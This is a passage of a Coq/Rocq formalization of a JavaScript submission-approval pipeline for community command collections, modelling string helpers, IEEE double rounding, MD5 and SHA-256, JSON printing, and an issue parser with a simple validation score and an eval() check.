(** * Level Up community commands: the submission approval pipeline

    A shallow embedding of the scripts that validate, score, approve and
    materialize a community command collection:

    - [Parser]    : parse-collection-issue.js, class CollectionIssueParser
    - [Scanner]   : ai-safety-check.js, class AISafetyChecker (unnamed/part_003)
    - [Approval]  : calculate-approval-score.js, class ApprovalScoreCalculator
                    (unnamed/part_002)
    - [Organizer] : scripts/organize-collection.js, class CollectionOrganizer
    - [Packages]  : package-manager.js, class PackageManager (unnamed/part_003)
    - [CodeQL]    : process-codeql-results.js, class CodeQLResultsProcessor
                    (in scripts/parse-collection-issue.js)
    - [Crypto]    : the MD5 and SHA-256 digests of Node's crypto module
    - [Json]      : the documents of JSON.parse and JSON.stringify

    Conventions.  A JavaScript number is the rational ([Q]) that the double
    denotes or, where the code only ever produces integers, an integer
    ([Z]).  The weighted score of the approval calculator is computed in
    doubles, every product and sum rounded to the nearest double
    ([Js.double]); elsewhere the sums are over integers or halves, which
    doubles hold exactly, and the mean of the command scores is taken over
    the rationals before [Math.round].  Infinity and NaN are not modelled,
    the NaN of the CodeQL score apart.  A JavaScript string is a [string] of
    bytes, so the string operations agree with JavaScript on ASCII text.  A
    field that may be missing in a parsed JSON document is an [option];
    optional chaining [a?.b] is [option] bind.  A method that mutates its
    argument returns the updated value.  A [throw] is [Throw] with the
    message of the error.  Console output is left out. *)

From Stdlib Require Import ZArith QArith Qround List String Ascii Bool Lia Lqa.
From Stdlib Require Import DecimalString.
Import ListNotations.
Set Warnings "-register-all,-abstract-large-number".
Open Scope string_scope.
Open Scope Z_scope.

(** ** JavaScript helpers shared by the scripts *)

Module Js.

(** Template-literal rendering of an integer: [`${n}`]. *)
Definition string_of_Z (n : Z) : string :=
  NilZero.string_of_int (Z.to_int n).

(** [Math.round]: the nearest integer, halves rounded towards +infinity. *)
Definition Math_round (x : Q) : Z := Qfloor (x + (1 # 2)).

(** *** Arithmetic on doubles

    A finite double is held as the rational it denotes.  The result of an
    operation is the exact result rounded to the nearest double, a tie to
    the double with the even significand (IEEE 754 binary64, the default
    rounding).  The doubles are the multiples [m * 2^e * 2^(-1074)] with
    [0 <= m < 2^53] and [0 <= e]: the rounding is done on the value scaled
    by [2^1074], on the grid of spacing [2^e] that the magnitude of the value
    selects ([e = 0] for the subnormal numbers and the first binade).  A
    result beyond the largest double (Infinity) is not modelled. *)

(** The nearest integer, a tie to the even one. *)
Definition roundHalfEven (x : Q) : Z :=
  let f := Qfloor x in
  match (x - inject_Z f ?= 1 # 2)%Q with
  | Lt => f
  | Gt => f + 1
  | Eq => if Z.even f then f else f + 1
  end.

(** The nearest multiple of [2^e]. *)
Definition onGrid (e : Z) (y : Q) : Z :=
  roundHalfEven (y / inject_Z (2 ^ e)) * 2 ^ e.

(** The spacing of the doubles around [y * 2^(-1074)], for [0 <= y]. *)
Definition gridExponent (y : Q) : Z := Z.max (Z.log2 (Qfloor y) - 52) 0.

Definition roundOnGrid (y : Q) : Z := onGrid (gridExponent y) y.

(** The double nearest to [x]; also the value of the decimal literal [x]. *)
Definition double (x : Q) : Q :=
  let scale := inject_Z (2 ^ 1074) in
  if Qle_bool 0 x
  then Qred (inject_Z (roundOnGrid (x * scale)) / scale)
  else Qred (- (inject_Z (roundOnGrid (- x * scale)) / scale)).

(** [x * y] and [x + y] on doubles. *)
Definition times (x y : Q) : Q := double (x * y).
Definition plus (x y : Q) : Q := double (x + y).

(** Optional chaining [o?.f] on a value that may be [null] or lack the field. *)
Definition chain {A B : Type} (o : option A) (f : A -> option B) : option B :=
  match o with Some a => f a | None => None end.
Notation "o ?. f" := (chain o f) (at level 19, left associativity).

(** [x || 0] on a possibly missing number. *)
Definition orZero (o : option Q) : Q :=
  match o with Some q => q | None => 0%Q end.

(** [x > y], [x >= y] where the left operand may be [undefined]
    (a comparison with [undefined] is false). *)
Definition Qgtb (x y : Q) : bool := negb (Qle_bool x y).
Definition opt_gt (o : option Q) (y : Q) : bool :=
  match o with Some x => Qgtb x y | None => false end.
Definition opt_ge (o : option Q) (y : Q) : bool :=
  match o with Some x => Qle_bool y x | None => false end.

(** [s === 'LIT'] where [s] may be [undefined]. *)
Definition opt_is (o : option string) (lit : string) : bool :=
  match o with Some s => String.eqb s lit | None => false end.

(** Truthiness of the result of an optional call: [undefined] is falsy. *)
Definition truthy (o : option bool) : bool :=
  match o with Some b => b | None => false end.

(** *** Exceptions: a computation returns a value or throws *)

Inductive result (A : Type) : Type :=
| Ok (a : A)
| Throw (e : string).
Arguments Ok {A} a.
Arguments Throw {A} e.

Definition bind {A B : Type} (c : result A) (k : A -> result B) : result B :=
  match c with Ok a => k a | Throw e => Throw e end.
Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity).

(** [try { c } catch (error) { h error }] *)
Definition try_catch {A : Type} (c : result A) (h : string -> result A) : result A :=
  match c with Ok a => Ok a | Throw e => h e end.

(** *** Strings *)

Definition newline : ascii := "010"%char.
Definition nl : string := String newline EmptyString.

(** White space of [trim] and of the class [\s], ASCII range. *)
Definition isSpace (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((n =? 32) || ((9 <=? n) && (n <=? 13)))%nat.

Fixpoint trimStart (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => if isSpace c then trimStart r else s
  end.

Definition reverse (s : string) : string :=
  string_of_list_ascii (rev (list_ascii_of_string s)).

Definition trimEnd (s : string) : string := reverse (trimStart (reverse s)).

Definition trim (s : string) : string := trimEnd (trimStart s).

Definition lowerChar (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((65 <=? n) && (n <=? 90))%nat then ascii_of_nat (n + 32) else c.

Fixpoint toLowerCase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => String (lowerChar c) (toLowerCase r)
  end.

Definition startsWith (s p : string) : bool := String.prefix p s.

Definition endsWith (s p : string) : bool := String.prefix (reverse p) (reverse s).

(** [s.includes(sub)] *)
Fixpoint includes (s sub : string) : bool :=
  String.prefix sub s ||
  match s with
  | EmptyString => false
  | String _ r => includes r sub
  end.

(** [s.substring(n)] and [s.substring(0, n)] *)
Definition dropChars (n : nat) (s : string) : string :=
  String.substring n (String.length s - n) s.
Definition takeChars (n : nat) (s : string) : string :=
  String.substring 0 n s.

(** [s.split(sep)] for a separator of one character. *)
Fixpoint split (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c r =>
      if Ascii.eqb c sep then EmptyString :: split sep r
      else match split sep r with
           | [] => [String c EmptyString]
           | h :: t => String c h :: t
           end
  end.

(** [l.join(sep)] *)
Definition join (sep : string) (l : list string) : string := String.concat sep l.

(** [s.replace(pat, rep)] with a string pattern: the first occurrence only. *)
Fixpoint replaceFirst (pat rep s : string) : string :=
  if String.prefix pat s then rep ++ dropChars (String.length pat) s
  else match s with
       | EmptyString => EmptyString
       | String c r => String c (replaceFirst pat rep r)
       end.

(** [s.replace(/[@\s]/g, '')] *)
Fixpoint removeAtAndSpaces (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      if Ascii.eqb c "@"%char || isSpace c then removeAtAndSpaces r
      else String c (removeAtAndSpaces r)
  end.

(** [l.push(x)] *)
Definition push {A : Type} (l : list A) (x : A) : list A := (l ++ [x])%list.

(** [!s] on a string. *)
Definition isEmpty (s : string) : bool :=
  match s with EmptyString => true | _ => false end.

(** [a || b] on strings. *)
Definition orElse (a b : string) : string := if isEmpty a then b else a.

End Js.

(** ** The digests of Node's [crypto] module

    [crypto.createHash('md5' | 'sha256').update(text).digest('hex')], after
    RFC 1321 and FIPS 180-4, on 32-bit words held in [Z].  The text is hashed
    as its bytes. *)

Module Crypto.

Definition mask32 (x : Z) : Z := Z.land x 4294967295.
Definition add32 (x y : Z) : Z := mask32 (x + y).
Definition not32 (x : Z) : Z := Z.lxor x 4294967295.
Definition rotl32 (x n : Z) : Z :=
  mask32 (Z.lor (Z.shiftl x n) (Z.shiftr x (32 - n))).
Definition rotr32 (x n : Z) : Z :=
  mask32 (Z.lor (Z.shiftr x n) (Z.shiftl x (32 - n))).

Definition bytesOf (s : string) : list Z :=
  map (fun c => Z.of_nat (nat_of_ascii c)) (list_ascii_of_string s).

(** The message followed by 0x80 and zeros up to 56 bytes modulo 64; the
    64-bit length is appended by each digest in its own byte order. *)
Definition padTo56 (bytes : list Z) : list Z :=
  let len := List.length bytes in
  let zeros := ((64 + 55 - len mod 64) mod 64)%nat in
  (bytes ++ 128 :: repeat 0 zeros)%list.

Definition bitLength (bytes : list Z) : Z := 8 * Z.of_nat (List.length bytes).

Definition littleEndian (count : nat) (x : Z) : list Z :=
  map (fun i => Z.land (Z.shiftr x (8 * Z.of_nat i)) 255) (seq 0 count).

Definition bigEndian (count : nat) (x : Z) : list Z := rev (littleEndian count x).

Definition wordLE (b : list Z) : Z :=
  fold_right (fun byte acc => byte + 256 * acc) 0 b.

Definition wordBE (b : list Z) : Z := wordLE (rev b).

(** The sixteen words of a 64-byte block. *)
Definition blockWords (word : list Z -> Z) (block : list Z) : list Z :=
  map (fun i => word (firstn 4 (skipn (4 * i) block))) (seq 0 16).

Definition hexChar (n : Z) : ascii :=
  ascii_of_nat (Z.to_nat (if n <? 10 then 48 + n else 87 + n)).

Definition hexByte (b : Z) : string :=
  String (hexChar (b / 16)) (String (hexChar (b mod 16)) EmptyString).

Definition hexOf (bytes : list Z) : string := String.concat "" (map hexByte bytes).

(** *** MD5 *)

Definition md5_K : list Z :=
  [
    3614090360; 3905402710; 606105819; 3250441966; 4118548399; 1200080426;
    2821735955; 4249261313; 1770035416; 2336552879; 4294925233; 2304563134;
    1804603682; 4254626195; 2792965006; 1236535329; 4129170786; 3225465664;
    643717713; 3921069994; 3593408605; 38016083; 3634488961; 3889429448;
    568446438; 3275163606; 4107603335; 1163531501; 2850285829; 4243563512;
    1735328473; 2368359562; 4294588738; 2272392833; 1839030562; 4259657740;
    2763975236; 1272893353; 4139469664; 3200236656; 681279174; 3936430074;
    3572445317; 76029189; 3654602809; 3873151461; 530742520; 3299628645;
    4096336452; 1126891415; 2878612391; 4237533241; 1700485571; 2399980690;
    4293915773; 2240044497; 1873313359; 4264355552; 2734768916; 1309151649;
    4149444226; 3174756917; 718787259; 3951481745 ].

Definition md5_shifts : list Z :=
  [ 7; 12; 17; 22; 7; 12; 17; 22; 7; 12; 17; 22; 7; 12; 17; 22;
    5; 9; 14; 20; 5; 9; 14; 20; 5; 9; 14; 20; 5; 9; 14; 20;
    4; 11; 16; 23; 4; 11; 16; 23; 4; 11; 16; 23; 4; 11; 16; 23;
    6; 10; 15; 21; 6; 10; 15; 21; 6; 10; 15; 21; 6; 10; 15; 21 ].

Definition md5_round (M : list Z) (st : Z * Z * Z * Z) (i : nat) : Z * Z * Z * Z :=
  let '(A, B, C, D) := st in
  let F :=
    if (i <? 16)%nat then Z.lor (Z.land B C) (Z.land (not32 B) D)
    else if (i <? 32)%nat then Z.lor (Z.land D B) (Z.land (not32 D) C)
    else if (i <? 48)%nat then Z.lxor B (Z.lxor C D)
    else Z.lxor C (Z.lor B (not32 D)) in
  let g :=
    if (i <? 16)%nat then i
    else if (i <? 32)%nat then ((5 * i + 1) mod 16)%nat
    else if (i <? 48)%nat then ((3 * i + 5) mod 16)%nat
    else ((7 * i) mod 16)%nat in
  let F := add32 (add32 (add32 F A) (nth i md5_K 0)) (nth g M 0) in
  (D, add32 B (rotl32 F (nth i md5_shifts 0)), B, C).

Definition md5_block (st : Z * Z * Z * Z) (block : list Z) : Z * Z * Z * Z :=
  let '(a0, b0, c0, d0) := st in
  let '(A, B, C, D) :=
    fold_left (md5_round (blockWords wordLE block)) (seq 0 64) st in
  (add32 a0 A, add32 b0 B, add32 c0 C, add32 d0 D).

Fixpoint md5_blocks (count : nat) (bytes : list Z) (st : Z * Z * Z * Z)
    : Z * Z * Z * Z :=
  match count with
  | O => st
  | S count' => md5_blocks count' (skipn 64 bytes) (md5_block st (firstn 64 bytes))
  end.

Definition md5 (bytes : list Z) : list Z :=
  let padded := (padTo56 bytes ++ littleEndian 8 (bitLength bytes))%list in
  let '(a, b, c, d) :=
    md5_blocks (List.length padded / 64) padded
      (1732584193, 4023233417, 2562383102, 271733878) in
  (littleEndian 4 a ++ littleEndian 4 b ++ littleEndian 4 c ++ littleEndian 4 d)%list.

Definition md5hex (text : string) : string := hexOf (md5 (bytesOf text)).

(** *** SHA-256 *)

Definition sha256_K : list Z :=
  [
    1116352408; 1899447441; 3049323471; 3921009573; 961987163; 1508970993;
    2453635748; 2870763221; 3624381080; 310598401; 607225278; 1426881987;
    1925078388; 2162078206; 2614888103; 3248222580; 3835390401; 4022224774;
    264347078; 604807628; 770255983; 1249150122; 1555081692; 1996064986;
    2554220882; 2821834349; 2952996808; 3210313671; 3336571891; 3584528711;
    113926993; 338241895; 666307205; 773529912; 1294757372; 1396182291;
    1695183700; 1986661051; 2177026350; 2456956037; 2730485921; 2820302411;
    3259730800; 3345764771; 3516065817; 3600352804; 4094571909; 275423344;
    430227734; 506948616; 659060556; 883997877; 958139571; 1322822218;
    1537002063; 1747873779; 1955562222; 2024104815; 2227730452; 2361852424;
    2428436474; 2756734187; 3204031479; 3329325298 ].

Definition sha256_init : list Z :=
  [ 1779033703; 3144134277; 1013904242; 2773480762; 1359893119; 2600822924; 528734635; 1541459225 ].

(** The message schedule: sixteen block words extended to sixty-four. *)
Definition sha256_extend (w : list Z) (i : nat) : list Z :=
  let w15 := nth (i - 15) w 0 in
  let w2 := nth (i - 2) w 0 in
  let s0 := Z.lxor (rotr32 w15 7) (Z.lxor (rotr32 w15 18) (Z.shiftr w15 3)) in
  let s1 := Z.lxor (rotr32 w2 17) (Z.lxor (rotr32 w2 19) (Z.shiftr w2 10)) in
  (w ++ [add32 (add32 (add32 (nth (i - 16) w 0) s0) (nth (i - 7) w 0)) s1])%list.

Definition sha256_schedule (block : list Z) : list Z :=
  fold_left sha256_extend (seq 16 48) (blockWords wordBE block).

Definition sha256_round (w : list Z) (st : list Z) (i : nat) : list Z :=
  match st with
  | [a; b; c; d; e; f; g; h] =>
      let S1 := Z.lxor (rotr32 e 6) (Z.lxor (rotr32 e 11) (rotr32 e 25)) in
      let ch := Z.lxor (Z.land e f) (Z.land (not32 e) g) in
      let temp1 :=
        add32 (add32 (add32 (add32 h S1) ch) (nth i sha256_K 0)) (nth i w 0) in
      let S0 := Z.lxor (rotr32 a 2) (Z.lxor (rotr32 a 13) (rotr32 a 22)) in
      let maj := Z.lxor (Z.land a b) (Z.lxor (Z.land a c) (Z.land b c)) in
      let temp2 := add32 S0 maj in
      [add32 temp1 temp2; a; b; c; add32 d temp1; e; f; g]
  | _ => st
  end.

Definition sha256_block (st : list Z) (block : list Z) : list Z :=
  let w := sha256_schedule block in
  map (fun p => add32 (fst p) (snd p))
    (combine st (fold_left (sha256_round w) (seq 0 64) st)).

Fixpoint sha256_blocks (count : nat) (bytes : list Z) (st : list Z) : list Z :=
  match count with
  | O => st
  | S count' =>
      sha256_blocks count' (skipn 64 bytes) (sha256_block st (firstn 64 bytes))
  end.

Definition sha256 (bytes : list Z) : list Z :=
  let padded := (padTo56 bytes ++ bigEndian 8 (bitLength bytes))%list in
  flat_map (bigEndian 4)
    (sha256_blocks (List.length padded / 64) padded sha256_init).

Definition sha256hex (text : string) : string := hexOf (sha256 (bytesOf text)).

End Crypto.

(** ** JSON documents

    The values [JSON.parse] produces and [JSON.stringify] prints.  Numbers
    are restricted to integers, the only numbers the scripts write.  An
    object is the list of its own properties in insertion order, without
    duplicate keys. *)

Module Json.
Import Js.

Inductive json : Type :=
| JNull
| JBool (b : bool)
| JNum (n : Z)
| JStr (s : string)
| JArr (l : list json)
| JObj (kv : list (string * json)).

Fixpoint lookup (k : string) (kv : list (string * json)) : option json :=
  match kv with
  | [] => None
  | (k', v) :: rest => if String.eqb k k' then Some v else lookup k rest
  end.

(** Property read [v.k] for a key [k] that is no built-in property of
    strings and arrays: [undefined] is [None], and reading a property of
    [null] throws. *)
Definition getProp (v : json) (k : string) : result (option json) :=
  match v with
  | JNull => Throw ("Cannot read properties of null (reading '" ++ k ++ "')")
  | JObj kv => Ok (lookup k kv)
  | _ => Ok None
  end.

(** Truthiness of a value that may be [undefined]. *)
Definition truthyValue (o : option json) : bool :=
  match o with
  | None => false
  | Some JNull => false
  | Some (JBool b) => b
  | Some (JNum n) => negb (n =? 0)
  | Some (JStr s) => negb (isEmpty s)
  | Some (JArr _) => true
  | Some (JObj _) => true
  end.

(** [Array.isArray(v)] *)
Definition isArray (o : option json) : bool :=
  match o with Some (JArr _) => true | _ => false end.

Definition elements (o : option json) : list json :=
  match o with Some (JArr l) => l | _ => [] end.

(** *** [JSON.stringify(v, null, 0)] *)

Definition dquote : string := String "034"%char EmptyString.
Definition backslash : string := String "092"%char EmptyString.

Definition hexDigit (n : nat) : ascii :=
  if (n <? 10)%nat then ascii_of_nat (48 + n) else ascii_of_nat (87 + n).

Definition escapeChar (c : ascii) : string :=
  let n := nat_of_ascii c in
  if (n =? 34)%nat then backslash ++ dquote
  else if (n =? 92)%nat then backslash ++ backslash
  else if (n =? 8)%nat then backslash ++ "b"
  else if (n =? 12)%nat then backslash ++ "f"
  else if (n =? 10)%nat then backslash ++ "n"
  else if (n =? 13)%nat then backslash ++ "r"
  else if (n =? 9)%nat then backslash ++ "t"
  else if (n <? 32)%nat then
    backslash ++ "u00"
    ++ String (hexDigit (n / 16)) (String (hexDigit (n mod 16)) EmptyString)
  else String c EmptyString.

Fixpoint escape (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => escapeChar c ++ escape r
  end.

Definition quote (s : string) : string := dquote ++ escape s ++ dquote.

Fixpoint stringify (v : json) : string :=
  match v with
  | JNull => "null"
  | JBool true => "true"
  | JBool false => "false"
  | JNum n => string_of_Z n
  | JStr s => quote s
  | JArr l => "[" ++ join "," (map stringify l) ++ "]"
  | JObj kv =>
      "{" ++ join "," (map (fun p => match p with
                                     | (k, x) => quote k ++ ":" ++ stringify x
                                     end) kv) ++ "}"
  end.

(** Conversion to a string, as inside a template literal [`${v}`].  An
    array is the join of its elements, [null] among them as the empty
    string.  An object is [[object Object]], the answer of the inherited
    [toString], unless it has a property [toString] of its own: in a parsed
    document that is no function, no primitive value is found and a
    TypeError is thrown.  The operator [+] converts an array or an object
    the same way. *)
Fixpoint render (v : json) : result string :=
  match v with
  | JNull => Ok "null"
  | JBool true => Ok "true"
  | JBool false => Ok "false"
  | JNum n => Ok (string_of_Z n)
  | JStr s => Ok s
  | JArr l =>
      parts <-
        (fix renderAll (l : list json) : result (list string) :=
           match l with
           | [] => Ok []
           | x :: rest =>
               part <- match x with JNull => Ok "" | _ => render x end ;;
               parts <- renderAll rest ;;
               Ok (part :: parts)
           end) l ;;
      Ok (join "," parts)
  | JObj kv =>
      match lookup "toString" kv with
      | Some _ => Throw "Cannot convert object to primitive value"
      | None => Ok "[object Object]"
      end
  end.

Definition renderOpt (o : option json) : result string :=
  match o with Some v => render v | None => Ok "undefined" end.

(** [a || b] on values that may be [undefined]. *)
Definition orValue (a : option json) (b : json) : json :=
  match a with
  | Some v => if truthyValue a then v else b
  | None => b
  end.

End Json.

(** ** parse-collection-issue.js : class CollectionIssueParser

    The sources hold two revisions of this class.  The one embedded here is
    the revision printed after the organizer in scripts/organize-collection.js:
    it reads the issue form with string operations, strips the code fence of
    the commands payload and tries several field names.  The revision in
    scripts/parse-collection-issue.js reads the form with regular
    expressions; its [extractCommands] is embedded as [extractCommands_regex],
    and its [calculateValidationScore] and the [return] of its
    [validateCollection] are the same text as here.  The parser of the JSON
    grammar, [JSON.parse], is a parameter: [None] is its SyntaxError. *)

Module Parser.
Import Js Json.

(** The GitHub issue handed to [parseIssue]. *)
Record GitHubIssue := {
  body : option string;
  title : option string;
  number : Z;
  html_url : string;
  created_at : string;
  user_login : option string
}.

Record Metadata := {
  name : string;
  description : string;
  category : string;
  tags : list string;
  commandCount : Z;
  dynamicsVersion : string;
  author : option string;
  submittedBy : option string;
  submittedAt : string
}.

Record Documentation := {
  doc_description : string;
  usageInstructions : string;
  prerequisites : string;
  limitations : string
}.

Record ValidationResult := {
  valid : bool;
  errors : list string;
  warnings : list string;
  score : Z
}.

Record IssueInfo := {
  info_number : Z;
  info_url : string;
  info_submittedAt : string;
  info_submittedBy : option string
}.

Record Collection := {
  metadata : Metadata;
  commands : list json;
  documentation : Documentation;
  validation : ValidationResult;
  contactInfo : string;
  issueInfo : IssueInfo
}.

Definition supportedCategories : list string :=
  [ "Form Actions"; "Navigation"; "Data Management"; "UI Enhancement";
    "Development Tools"; "Workflow Automation"; "Reporting & Analytics";
    "User Management"; "Business Process"; "Other" ].

(** *** [extractField(body, fieldId)] *)

Definition isHeaderLine (nextLine : string) : bool :=
  startsWith nextLine "###" || startsWith nextLine "**" || startsWith nextLine "##".

(** The inner [while] loop: the lines up to the next header. *)
Fixpoint collectContent (lines : list string) : list string :=
  match lines with
  | [] => []
  | l :: rest => if isHeaderLine (trim l) then [] else l :: collectContent rest
  end.

Definition fieldVariants (fieldId : string) : list string :=
  [ "### " ++ fieldId;
    "### " ++ replaceFirst "-" " " fieldId;
    "**" ++ fieldId ++ ":**";
    "**" ++ replaceFirst "-" " " fieldId ++ ":**" ].

(** The outer [for] loop. *)
Fixpoint scanField (variants : list string) (lines : list string) : string :=
  match lines with
  | [] => ""
  | l :: rest =>
      let line := trim l in
      let isFieldHeader :=
        existsb (fun variant => includes (toLowerCase line) (toLowerCase variant))
          variants in
      if isFieldHeader then trim (join nl (collectContent rest))
      else scanField variants rest
  end.

Definition extractField (body fieldId : string) : string :=
  scanField (fieldVariants fieldId) (split newline body).

(** *** [extractJsonFromCodeBlock(text)] *)

Definition extractJsonFromCodeBlock (text : string) : string :=
  let jsonText := trim text in
  let jsonText :=
    if startsWith jsonText "```json" then dropChars 7 jsonText
    else if startsWith jsonText "```" then dropChars 3 jsonText
    else jsonText in
  let jsonText :=
    if endsWith jsonText "```" then takeChars (String.length jsonText - 3) jsonText
    else jsonText in
  trim jsonText.

(** *** The other field extractors *)

(** [extractTitleCollection(title)]; [indexOf] is [String.index]. *)
Definition extractTitleCollection (title : string) : string :=
  let collectionPrefix := "[COLLECTION]" in
  let lowerTitle := toLowerCase title in
  match String.index 0 (toLowerCase collectionPrefix) lowerTitle with
  | Some prefixIndex =>
      trim (dropChars (prefixIndex + String.length collectionPrefix) title)
  | None => title
  end.

Definition extractTags (body : string) : list string :=
  let tagsField := extractField body "Tags" in
  if isEmpty tagsField || String.eqb tagsField "_No response_" then []
  else filter (fun tag => (0 <? String.length tag)%nat)
         (map trim (split ","%char tagsField)).

Definition normalizeCategory (category : string) : string :=
  if isEmpty category then "Other"
  else
    let normalized := toLowerCase category in
    match find (fun cat => String.eqb (toLowerCase cat) normalized)
            supportedCategories with
    | Some found => orElse found "Other"
    | None => "Other"
    end.

(** [parseInt(s)]: leading white space, a sign, a [0x] prefix, then the
    longest run of digits; [None] is NaN. *)
Definition digitValue (radix : Z) (c : ascii) : option Z :=
  let n := Z.of_nat (nat_of_ascii c) in
  let d :=
    if (48 <=? n) && (n <=? 57) then Some (n - 48)
    else if (97 <=? n) && (n <=? 122) then Some (n - 87)
    else if (65 <=? n) && (n <=? 90) then Some (n - 55)
    else None in
  match d with
  | Some v => if v <? radix then Some v else None
  | None => None
  end.

Fixpoint parseDigits (radix : Z) (s : string) (acc : option Z) : option Z :=
  match s with
  | EmptyString => acc
  | String c r =>
      match digitValue radix c with
      | Some d =>
          parseDigits radix r
            (Some (match acc with Some a => a * radix + d | None => d end))
      | None => acc
      end
  end.

Definition parseInt (s : string) : option Z :=
  let s := trimStart s in
  let signed :=
    match s with
    | String "-"%char r => (-1, r)
    | String "+"%char r => (1, r)
    | _ => (1, s)
    end in
  let based :=
    if startsWith (snd signed) "0x" || startsWith (snd signed) "0X"
    then (16, dropChars 2 (snd signed))
    else (10, snd signed) in
  option_map (Z.mul (fst signed)) (parseDigits (fst based) (snd based) None).

(** [extractMetadata(issueData, body)]; the title is read only when the
    name field is empty, and lowering a missing title is a TypeError. *)
Definition extractMetadata (issueData : GitHubIssue) (body : string)
    : result Metadata :=
  let dynamicsVersion := extractField body "Dynamics 365 Version" in
  let author := extractField body "Author Attribution (Optional)" in
  name <-
    (let field := extractField body "Collection Name" in
     if negb (isEmpty field) then Ok field
     else match title issueData with
          | Some t => Ok (extractTitleCollection t)
          | None =>
              Throw "Cannot read properties of undefined (reading 'toLowerCase')"
          end) ;;
  Ok {| name := name;
        description := extractField body "Collection Description";
        category := normalizeCategory (extractField body "Primary Category");
        tags := extractTags body;
        commandCount :=
          match parseInt (extractField body "Number of Commands") with
          | Some n => n
          | None => 0
          end;
        dynamicsVersion :=
          if negb (isEmpty dynamicsVersion)
             && negb (String.eqb dynamicsVersion "_No response_")
          then dynamicsVersion else "All versions";
        author :=
          if negb (isEmpty author) && negb (String.eqb author "_No response_")
          then Some author else user_login issueData;
        submittedBy := user_login issueData;
        submittedAt := created_at issueData |}.

Definition extractContactInfo (body : string) : string :=
  let contactInfo :=
    orElse (extractField body "GitHub Username (Required)")
      (extractField body "contact-info") in
  if negb (isEmpty contactInfo) && negb (String.eqb contactInfo "_No response_")
  then toLowerCase (removeAtAndSpaces contactInfo)
  else "".

(** [extractSectionByKeywords(body, keywords)] *)
Fixpoint collectSection (lines : list string) : list string :=
  match lines with
  | [] => []
  | l :: rest =>
      let nextLine := trim l in
      if ((0 <? String.length nextLine)%nat
          && (includes nextLine ":" && (String.length nextLine <? 50)%nat))
         || startsWith nextLine "#"
      then []
      else if (0 <? String.length nextLine)%nat then l :: collectSection rest
      else collectSection rest
  end.

Fixpoint scanSection (keywords : list string) (lines : list string) : string :=
  match lines with
  | [] => ""
  | l :: rest =>
      let line := trim (toLowerCase l) in
      let hasKeyword :=
        existsb (fun keyword =>
                   includes line (toLowerCase keyword ++ ":")
                   || includes line (toLowerCase keyword))
          keywords in
      if hasKeyword then trim (join nl (collectSection rest))
      else scanSection keywords rest
  end.

Definition extractSectionByKeywords (body : string) (keywords : list string) : string :=
  scanSection keywords (split newline body).

Definition extractDocumentation (body : string) : Documentation := {|
  doc_description := extractField body "Collection Description";
  usageInstructions :=
    extractSectionByKeywords body ["usage instructions"; "how to use"; "instructions"];
  prerequisites :=
    extractSectionByKeywords body ["prerequisites"; "requirements"; "setup"];
  limitations :=
    extractSectionByKeywords body ["limitations"; "known issues"; "caveats"] |}.

(** *** [calculateValidationScore(errorCount, warningCount, commandCount)] *)

Definition calculateValidationScore (errorCount warningCount commandCount : Z) : Z :=
  let score := 100 in
  let score := score - errorCount * 25 in
  let score := score - warningCount * 10 in
  let score := if 3 <=? commandCount then score + 5 else score in
  Z.max 0 (Z.min 100 score).

(** *** The per-command checks of [validateCollection]

    The callback of [commands.forEach]; the state is the pair of the
    [errors] and [warnings] arrays.  A command read from JSON may be any
    value: reading a property of [null], or lowering a [code] that is no
    string, throws. *)
Definition checkCommand (index : nat) (command : json)
    (st : list string * list string) : result (list string * list string) :=
  let errors := fst st in
  let warnings := snd st in
  let n := string_of_Z (Z.of_nat index + 1) in
  cname <- getProp command "name" ;;
  let errors :=
    if negb (truthyValue cname)
    then push errors ("Command " ++ n ++ " is missing a name") else errors in
  ccode <- getProp command "code" ;;
  let errors :=
    if negb (truthyValue ccode)
    then push errors ("Command " ++ n ++ " is missing JavaScript code") else errors in
  if truthyValue ccode then
    match ccode with
    | Some (JStr code) =>
        let errors :=
          if includes (toLowerCase code) "eval("
          then push errors ("Command " ++ n ++ " contains dangerous eval() function")
          else errors in
        let codeLines := split newline (toLowerCase code) in
        let hasUrls :=
          existsb (fun line => includes line "http://" || includes line "https://")
            codeLines in
        let warnings :=
          if hasUrls
          then push warnings ("Command " ++ n ++ " contains hardcoded URLs")
          else warnings in
        Ok (errors, warnings)
    | _ => Throw "command.code.toLowerCase is not a function"
    end
  else Ok (errors, warnings).

Fixpoint forEachCommand (index : nat) (commands : list json)
    (st : list string * list string) : result (list string * list string) :=
  match commands with
  | [] => Ok st
  | command :: rest =>
      st' <- checkCommand index command st ;;
      forEachCommand (S index) rest st'
  end.

(** *** [extractCommands(body)] *)

(** The [for ... break] loop over the field names: the first field found
    non-empty, or the value of the last one tried. *)
Fixpoint firstField (body : string) (fieldNames : list string) (current : string)
    : string :=
  match fieldNames with
  | [] => current
  | fieldName :: rest =>
      let commandsJsonField := extractField body fieldName in
      if negb (isEmpty commandsJsonField) then commandsJsonField
      else firstField body rest commandsJsonField
  end.

Section WithJsonParse.
Variable JSON_parse : string -> option json.

(** The body of the [try] block, shared by the two revisions. *)
Definition readCommands (text : string) : result (list json) :=
  match JSON_parse text with
  | None => Throw "Unexpected token in JSON"
  | Some commandsData =>
      inner <- getProp commandsData "commands" ;;
      if truthyValue inner && isArray inner then Ok (elements inner)
      else if isArray (Some commandsData) then Ok (elements (Some commandsData))
      else Throw "Invalid commands JSON structure"
  end.

Definition extractCommands (body : string) : result (list json) :=
  let fieldNames :=
    ["Commands JSON Export"; "commands-json"; "Commands JSON"; "JSON Export"] in
  let commandsJsonField := firstField body fieldNames "" in
  if isEmpty commandsJsonField then Ok []
  else
    let jsonContent := extractJsonFromCodeBlock commandsJsonField in
    try_catch (readCommands jsonContent) (fun error => Ok []).

(** The earlier revision of [extractCommands]: one field name, no code
    fence removal.  Its [extractField] matches regular expressions and is
    a parameter here. *)
Definition extractCommands_regex (extractField_regex : string -> string -> string)
    (body : string) : result (list json) :=
  let commandsJsonField := extractField_regex body "commands-json" in
  if isEmpty commandsJsonField then Ok []
  else try_catch (readCommands commandsJsonField) (fun error => Ok []).

(** The required-field checks at the head of [validateCollection] in that
